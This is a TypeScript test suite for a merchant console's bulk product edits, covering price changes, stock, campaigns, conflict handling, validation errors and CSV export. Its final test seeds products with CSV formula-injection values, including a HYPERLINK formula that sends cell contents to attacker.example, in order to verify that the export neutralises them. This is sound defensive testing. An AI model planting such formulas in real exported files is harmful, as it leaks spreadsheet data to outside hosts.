import assert from 'node:assert/strict';
import { beforeEach, describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import type { BulkPreview, ConsoleImport } from '../../src/console/catalog-api.ts';
import type { ConsoleError } from '../../src/console/console-api.ts';
import type { Product } from '../../src/products/record/product.ts';
import { auditLogOf } from '../support/audit.ts';
import { allProducts, draft, importDrafts } from '../support/catalog.ts';
import { type ConsoleClient, signedIn } from '../support/console.ts';
import { checkFile, importFile, untilState } from '../support/console-imports.ts';
import { forEachEngine } from '../support/engines.ts';
import { type TestMerchant, useService } from '../support/service.ts';

const variation = (identifier: string, quantity: number | null, deletedAt: string | null = null) => ({
  identifier,
  quantity,
  deleted_at: deletedAt,
});

forEachEngine((engine) => {
  describe('a change of many products', () => {
    const service = useService(engine);
    beforeEach(() => service().passTime(61_000));

    async function newShop(): Promise<{
      merchant: TestMerchant;
      console: ConsoleClient;
      products: () => Promise<Map<string, Product>>;
    }> {
      const merchant = await service().newMerchant();
      await importDrafts(service(), merchant, [
        [
          draft('A', { title: 'Clay pot', buy_now_price: 9.99, available_quantity: 3 }),
          draft('B', { title: 'Clay bowl', buy_now_price: 20 }, [
            variation('B-S', 1),
            variation('B-M', 2),
            variation('B-L', 4, '2026-01-01T00:00:00Z'),
          ]),
          draft('C', { title: 'Glass' }),
          draft('D', { title: 'Clay lamp', buy_now_price: 5, status: 'deleted' }),
        ],
      ]);
      const products = async () =>
        new Map((await allProducts(service(), merchant)).map((product) => [product.identifier, product]));
      return { merchant, console: await signedIn(service(), merchant), products };
    }

    async function change(
      console: ConsoleClient,
      json: object,
    ): Promise<[preview: ConsoleImport, result: ConsoleImport]> {
      const response = await console.post('/products/bulk', json);
      assert.equal(response.status, 200, response.text);
      const { id } = response.json<BulkPreview>();
      const preview = await untilState(console, id, 'checked');
      assert.equal((await console.post(`/imports/${id}/import`)).status, 200);
      return [preview, await untilState(console, id, 'done')];
    }

    it('shows what would change before it changes anything, for all products that match a filter', async () => {
      const { console, products } = await newShop();
      const before = await products();
      const json = { all: true, query: 'clay', kind: 'percent', field: 'buy_now_price', percent: 10 };
      const { id, products: selected } = (await console.post('/products/bulk', json)).json<BulkPreview>();
      assert.equal(selected, 2);
      const preview = await untilState(console, id, 'checked');
      assert.equal(preview.name, 'Raise Buy-now price by 10% · 2 products');
      assert.deepEqual(
        [preview.summary?.updated, preview.summary?.changed_fields],
        [2, { buy_now_price: 2 }],
      );
      assert.deepEqual(await products(), before);
      await console.post(`/imports/${id}/import`);
      await untilState(console, id, 'done');
      const after = await products();
      assert.deepEqual(
        [...after].map(([, { buy_now_price: price }]) => price),
        [10.99, 22, null, 5],
      );
      assert.deepEqual({ ...after.get('C') }, before.get('C'));
    });

    it('counts the products that would sell below cost because of it', async () => {
      const { merchant, console } = await newShop();
      await importDrafts(service(), merchant, [
        [
          draft('A', { cost_basis: 9.5 }),
          draft('B', { cost_basis: 19 }),
          draft('C', { buy_now_price: 3, cost_basis: 4 }),
        ],
      ]);
      const json = { all: true, query: 'clay', kind: 'percent', field: 'buy_now_price' };
      const [lower, done] = await change(console, { ...json, percent: -5 });
      assert.equal(lower.summary?.below_cost, 1, 'A sells at 9.49, and B at 19');
      assert.equal(done.summary?.below_cost, undefined);
      const [raise] = await change(console, { ...json, percent: 50 });
      assert.equal(raise.summary?.below_cost, undefined);
      const [rename] = await change(console, { all: true, kind: 'campaign', campaign_name: 'Spring' });
      assert.equal(rename.summary?.below_cost, undefined, 'the price of C does not change');
    });

    it('counts the minimum bids that would be above the price because of it', async () => {
      const { merchant, console } = await newShop();
      await importDrafts(service(), merchant, [
        [
          draft('A', { minimum_bid_amount: 9.5 }),
          draft('B', { minimum_bid_amount: 19 }),
          draft('C', { buy_now_price: 3, minimum_bid_amount: 4 }),
        ],
      ]);
      const json = { all: true, query: 'clay' };
      const percent = { ...json, kind: 'percent', field: 'buy_now_price', percent: -5 };
      const [lower, done] = await change(console, percent);
      assert.equal(lower.summary?.bid_above_price, 1, 'A sells at 9.49, and B at 19');
      assert.equal(done.summary?.bid_above_price, undefined);
      const amount = { ...json, kind: 'amount', field: 'minimum_bid_amount', value: 19.01 };
      const [raise] = await change(console, amount);
      assert.equal(raise.summary?.bid_above_price, 2);
      const [rename] = await change(console, { all: true, kind: 'campaign', campaign_name: 'Spring' });
      assert.equal(rename.summary?.bid_above_price, undefined, 'no price changes');
    });

    it('sets the stock of products and of each variation, and keeps variations that were created meanwhile', async () => {
      const { merchant, console, products } = await newShop();
      const response = await console.post('/products/bulk', { all: true, kind: 'stock', quantity: 7 });
      const { id } = response.json<BulkPreview>();
      await untilState(console, id, 'checked');
      const form = {
        access_token: merchant.token,
        product_identifier: 'B',
        identifier: 'B-XL',
        quantity: '1',
      };
      assert.equal((await service().request('POST', '/variations', { form })).status, 200);
      await console.post(`/imports/${id}/import`);
      await untilState(console, id, 'done');
      const after = await products();
      assert.deepEqual(
        ['A', 'C'].map((name) => after.get(name)?.available_quantity),
        [7, 7],
      );
      assert.deepEqual(
        after
          .get('B')
          ?.variations.map(({ identifier, quantity, deleted_at: deleted }) => [
            identifier,
            quantity,
            deleted !== null,
          ]),
        [
          ['B-S', 7, false],
          ['B-M', 7, false],
          ['B-L', 4, true],
          ['B-XL', 1, false],
        ],
      );
    });

    it('sets amounts and campaigns, clears them, disables, enables and deletes the chosen products', async () => {
      const { console, products } = await newShop();
      const ids = [...(await products()).values()]
        .slice(0, 2)
        .map(({ internal_id: id }) => id)
        .join(',');
      const valuesAfter = async (json: object, field: keyof Product): Promise<unknown[]> => {
        await change(console, { ids, ...json });
        return [...(await products()).values()].slice(0, 3).map((product) => product[field]);
      };
      const amount = { kind: 'amount', field: 'reserve_price' };
      assert.deepEqual(await valuesAfter({ ...amount, value: 4.5 }, 'reserve_price'), [4.5, 4.5, null]);
      assert.deepEqual(await valuesAfter({ ...amount, value: null }, 'reserve_price'), [null, null, null]);
      const campaign = { kind: 'campaign' };
      assert.deepEqual(await valuesAfter({ ...campaign, campaign_name: 'Spring' }, 'campaign_name'), [
        'Spring',
        'Spring',
        null,
      ]);
      assert.deepEqual(await valuesAfter({ ...campaign, campaign_name: null }, 'campaign_name'), [
        null,
        null,
        null,
      ]);
      assert.deepEqual(await valuesAfter({ kind: 'disable' }, 'status'), ['disabled', 'disabled', 'enabled']);
      const enabled = await valuesAfter({ kind: 'enable' }, 'disabled_at');
      assert.deepEqual(enabled, [null, null, null]);
      assert.deepEqual(await valuesAfter({ kind: 'delete' }, 'status'), ['deleted', 'deleted', 'enabled']);
    });

    it('is named in plain words, with the currency, and by what it changed in the activity', async () => {
      const { console } = await newShop();
      const nameOf = async (json: object): Promise<string> => {
        const [{ name }] = await change(console, { all: true, ...json });
        const entries = await auditLogOf(service(), console);
        return `${name} / ${entries[0]?.action} ${entries[0]?.subject}`;
      };
      const names = [
        await nameOf({ kind: 'amount', field: 'buy_now_price', value: 1249.5 }),
        await nameOf({ kind: 'percent', field: 'buy_now_price', percent: -2.5 }),
        await nameOf({ kind: 'amount', field: 'cost_basis', value: null }),
        await nameOf({ kind: 'stock', quantity: 1200 }),
        await nameOf({ kind: 'campaign', campaign_name: 'Spring · sale' }),
        await nameOf({ query: 'bowl', kind: 'delete' }),
      ];
      const changed = 'products.bulk_changed';
      assert.deepEqual(names, [
        `Set Buy-now price to $1,249.50 · 3 products / ${changed} Set Buy-now price to $1,249.50 · 3 products`,
        `Lower Buy-now price by 2.5% · 3 products / ${changed} Lower Buy-now price by 2.5% · 3 products`,
        `Clear Cost basis · 3 products / ${changed} Clear Cost basis · 0 products`,
        `Set stock to 1,200 · 3 products / ${changed} Set stock to 1,200 · 3 products`,
        `Set campaign to Spring · sale · 3 products / ${changed} Set campaign to Spring · sale · 3 products`,
        `Delete · 1 product / ${changed} Delete · 1 product`,
      ]);
    });

    it('lists the products that it cannot change, with the reason, and changes the others', async () => {
      const { merchant, console, products } = await newShop();
      await importDrafts(service(), merchant, [[draft('E', { title: 'Knife', status: 'banned' })]]);
      await change(console, { all: true, kind: 'disable' });
      const [preview, result] = await change(console, { all: true, kind: 'enable' });
      for (const { summary, rejections } of [preview, result]) {
        assert.deepEqual([summary?.updated, summary?.rejected], [3, 1]);
        assert.equal(rejections.length, 1);
        assert.match(rejections[0]?.reason ?? '', /only the marketplace operator moderates/);
      }
      assert.equal((await products()).get('E')?.status, 'banned');
    });

    describe('leaves alone what others change between the preview and the change', () => {
      /** `meanwhile` runs between the preview and the change. Resolves to the result. */
      async function overtaken(
        console: ConsoleClient,
        json: object,
        meanwhile: () => Promise<unknown>,
      ): Promise<ConsoleImport> {
        const response = await console.post('/products/bulk', json);
        assert.equal(response.status, 200, response.text);
        const { id } = response.json<BulkPreview>();
        await untilState(console, id, 'checked');
        await meanwhile();
        assert.equal((await console.post(`/imports/${id}/import`)).status, 200);
        return await untilState(console, id, 'done');
      }

      const write = async (merchant: TestMerchant, path: string, form: object): Promise<void> => {
        const all = { access_token: merchant.token, ...form };
        const response = await service().request('POST', path, { form: all });
        assert.equal(response.status, 200, response.text);
      };
      const leftAlone = ({ rejections }: ConsoleImport): string[] =>
        rejections.map(({ identifier, column, reason }) => `${identifier} ${column}: ${reason}`);

      it('a price that someone else set', async () => {
        const { merchant, console, products } = await newShop();
        const json = { all: true, query: 'clay', kind: 'percent', field: 'buy_now_price', percent: 10 };
        const result = await overtaken(console, json, () =>
          write(merchant, '/products/update', { identifier: 'A', buy_now_price: '12' }),
        );
        const after = await products();
        assert.deepEqual(
          ['A', 'B'].map((name) => after.get(name)?.buy_now_price),
          [12, 22],
        );
        assert.deepEqual([result.summary?.updated, result.summary?.rejected], [1, 1]);
        assert.deepEqual(leftAlone(result), [
          'A buy_now_price: changed meanwhile from 9.99 to 12; the product is left alone',
        ]);
      });

      it('the prices that another bulk change has changed already', async () => {
        const { console, products } = await newShop();
        const json = { all: true, query: 'clay', kind: 'percent', field: 'buy_now_price', percent: 10 };
        const result = await overtaken(console, json, () => change(console, json));
        const after = await products();
        assert.deepEqual(
          ['A', 'B'].map((name) => after.get(name)?.buy_now_price),
          [10.99, 22],
        );
        assert.deepEqual([result.summary?.updated, result.summary?.rejected], [0, 2]);
      });

      it('stock that was sold, of products and of variations, and a variation that was deleted', async () => {
        const { merchant, console, products } = await newShop();
        await importDrafts(service(), merchant, [[draft('E', {}, [variation('E-1', 1)])]]);
        const result = await overtaken(console, { all: true, kind: 'stock', quantity: 7 }, async () => {
          await write(merchant, '/products/update', { identifier: 'A', available_quantity: '2' });
          await write(merchant, '/variations/update', { identifier: 'B-M', quantity_change: '-1' });
          await write(merchant, '/variations/delete', { identifier: 'E-1' });
        });
        const after = await products();
        assert.deepEqual(
          ['A', 'B', 'C', 'E'].map((name) => after.get(name)?.available_quantity),
          [2, 2, 7, 0],
        );
        assert.notEqual(after.get('E')?.variations[0]?.deleted_at, null);
        assert.deepEqual(leftAlone(result).toSorted(), [
          'A available_quantity: changed meanwhile from 3 to 2; the product is left alone',
          'B variations[B-M][quantity]: changed meanwhile from 2 to 1; the product is left alone',
          `E variations[E-1][deleted_at]: changed meanwhile from none to ${after.get('E')?.variations[0]?.deleted_at}; the product is left alone`,
        ]);
      });

      it('amounts and campaigns that someone else set', async () => {
        const { merchant, console, products } = await newShop();
        const amount = { all: true, kind: 'amount', field: 'reserve_price', value: 4 };
        const first = await overtaken(console, amount, () =>
          write(merchant, '/products/update', { identifier: 'A', reserve_price: '6' }),
        );
        assert.deepEqual(leftAlone(first), [
          'A reserve_price: changed meanwhile from none to 6; the product is left alone',
        ]);
        const campaign = { all: true, kind: 'campaign', campaign_name: 'Spring' };
        const second = await overtaken(console, campaign, () =>
          write(merchant, '/products/update', { identifier: 'B', campaign_name: 'Summer' }),
        );
        assert.deepEqual(leftAlone(second), [
          'B campaign_name: changed meanwhile from none to Summer; the product is left alone',
        ]);
        const after = await products();
        assert.deepEqual(
          ['A', 'B', 'C'].map((name) => [after.get(name)?.reserve_price, after.get(name)?.campaign_name]),
          [
            [6, 'Spring'],
            [4, 'Summer'],
            [4, 'Spring'],
          ],
        );
      });

      it('a product that was deleted, and changes one that was only sold', async () => {
        const { merchant, console, products } = await newShop();
        const result = await overtaken(console, { all: true, kind: 'enable' }, () =>
          write(merchant, '/products/delete', { identifier: 'B' }),
        );
        assert.equal((await products()).get('B')?.status, 'deleted');
        assert.deepEqual(leftAlone(result), [
          'B status: changed meanwhile from low_inventory to deleted; the product is left alone',
        ]);
        const disabled = await overtaken(console, { all: true, kind: 'disable' }, () =>
          write(merchant, '/products/update', { identifier: 'A', available_quantity: '0' }),
        );
        assert.deepEqual([disabled.summary?.updated, leftAlone(disabled)], [2, []]);
      });
    });

    it('400 and 409: says what is missing, and that nothing is selected', async () => {
      const { console } = await newShop();
      for (const [json, status, message] of [
        [{ kind: 'disable' }, 400, /^ids: send either/],
        [{ kind: 'disable', ids: '1', all: true }, 400, /^ids: send either/],
        [{ kind: 'disable', ids: '1,x' }, 400, /^ids: expected 1 to 1000 internal IDs/],
        [{ kind: 'amount', all: true, value: 3 }, 400, /^field: missing, required for amount/],
        [{ kind: 'amount', all: true, field: 'reserve_price' }, 400, /^value: missing/],
        [{ kind: 'percent', all: true, field: 'reserve_price', percent: -100 }, 400, /^percent: expected/],
        [{ kind: 'stock', all: true, quantity: -1 }, 400, /^quantity: expected/],
        [{ kind: 'explode', all: true }, 400, /^kind: expected one of/],
        [{ kind: 'disable', all: true, query: 'nothing' }, 409, /^The selected products no longer match\./],
      ] as const) {
        const response = await console.post('/products/bulk', json);
        assert.equal(response.status, status, response.text);
        assert.match(response.json<ConsoleError>().message, message);
      }
    });

    it('exports the products that match as CSV, which an import reads', async () => {
      const { console } = await newShop();
      const response = await console.get('/products/export.csv?query=clay');
      assert.match(response.header('content-disposition'), /^attachment; filename="products\.csv"$/);
      const lines = response.text.trimEnd().split(/\r?\n/);
      assert.match(lines[0] ?? '', /^identifier,/);
      assert.deepEqual(new Set(lines.slice(1).map((line) => line.split(',')[0])), new Set(['A', 'B']));
      const all = (await console.get('/products/export.csv')).text;
      assert.ok(all.includes('Glass') && !all.includes('Clay lamp'));
    });

    it('exports CSV without a formula for spreadsheets, and an upload of the file changes nothing', async () => {
      service().passTime(60_000);
      const { merchant, console, products } = await newShop();
      await importDrafts(service(), merchant, [
        [
          draft('-E', { title: '=HYPERLINK("https://attacker.example?"&A2;"Details")', brand: "'=1" }, [
            { identifier: '-1', size: '@SUM(A1)', color: '-5' },
          ]),
          draft('F', { description: 'Care:\n- wash\n- "=dry"; =1+1', category: '+x | -y', brand: '\t=1' }),
        ],
      ]);
      const before = await products();
      const file = (await console.get('/products/export.csv')).text;
      const cells: string[][] = parse(file);
      for (const cell of cells.flat()) assert.match(cell, /^([^=+@\t\r-]|$|-\d$)/);
      assert.ok(file.includes(`'=HYPERLINK(""https://attacker.example?""&A2;""Details"")`), file);
      assert.ok(file.includes('Care:\n\'- wash\n\'- ""\'=dry""; \'=1+1'), file);
      assert.deepEqual((await checkFile(console, 'products.csv', file)).ignored_columns, []);
      const { summary, rejections } = await importFile(console, 'products.csv', file);
      assert.deepEqual(rejections, []);
      assert.equal(summary?.unchanged, 5);
      assert.deepEqual(await products(), before);
    });
  });
});
